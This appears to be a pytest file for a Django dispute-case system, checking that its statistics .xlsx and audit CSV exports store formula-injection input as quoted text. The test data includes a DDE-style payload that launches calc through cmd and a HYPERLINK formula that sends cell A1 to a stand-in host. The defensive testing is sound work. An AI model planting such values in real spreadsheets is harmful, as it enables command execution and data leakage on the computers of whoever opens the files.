"""SPEC §11 through the real pages: a dispute type, region, reason or name that begins with
= + - @, a tab or a carriage return is text in the statistics .xlsx and the audit CSV."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cases.models import DisputeType, Region
from core.spreadsheet import is_dangerous
from tests.factories import party
from workflows import services as s

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"详情")'


def test_statistics_xlsx_writes_hostile_names_as_text(client, supervisor, world, register):
    names = {"neighbour": HYPERLINK, "contract": "+cmd|' /C calc'!A0", "forest_land": "-1+1"}
    for code, name in names.items():
        assert DisputeType.objects.filter(code=code, taxonomy__is_current=True).update(name=name)
    Region.objects.filter(pk=world["qingshan"].pk).update(full_name="@SUM(1)")
    register()  # one case of the renamed 邻里纠纷, so the row carries numbers too
    client.force_login(supervisor)
    response = client.get(reverse("supervision:statistics-xlsx"))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    sheet = book["统计表"]
    region = sheet["B2"]
    assert (region.value, region.data_type, region.quotePrefix) == ("@SUM(1)", "s", True)
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=5)}
    for name in names.values():
        cell = rows[name][0]
        assert (cell.data_type, cell.quotePrefix) == ("s", True), name
    received = rows[HYPERLINK][1]
    assert (received.value, received.data_type) == (1, "n")  # numbers stay numbers
    assert rows["合计"][0].quotePrefix is False


def test_audit_csv_prefixes_every_dangerous_cell(client, supervisor, clerk, register):
    clerk.first_name = "@SUM(1)"
    clerk.save()
    first = register(parties=[party("applicant", 1, name=HYPERLINK), party("respondent", 2)])
    s.case_transition(first, "decline", actor=clerk, reason=HYPERLINK)
    second = register(parties=[party("applicant", 3), party("respondent", 4)])
    s.case_transition(second, "withdraw", actor=clerk, party="申请人", reason="-1+1")
    third = register(parties=[party("applicant", 5), party("respondent", 6)])
    s.case_transition(third, "decline", actor=clerk, reason="\t=1")
    client.force_login(supervisor)
    response = client.get(reverse("supervision:audit-csv"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert [cell for row in rows for cell in row if is_dangerous(cell)] == []
    by_reason = {row[header.index("理由")]: row for row in rows}
    assert {"'" + HYPERLINK, "'-1+1", "'\t=1"} <= set(by_reason)
    declined = by_reason["'" + HYPERLINK]
    assert declined[header.index("案号")] == first.number
    assert declined[header.index("操作人")] == "'@SUM(1)"
    assert {row[header.index("操作人")] for row in rows} == {"'@SUM(1)"}
    # Anything else is left as it is (the changes' JSON begins with "{").
    assert declined[header.index("变更内容")].startswith('{"changes": ')
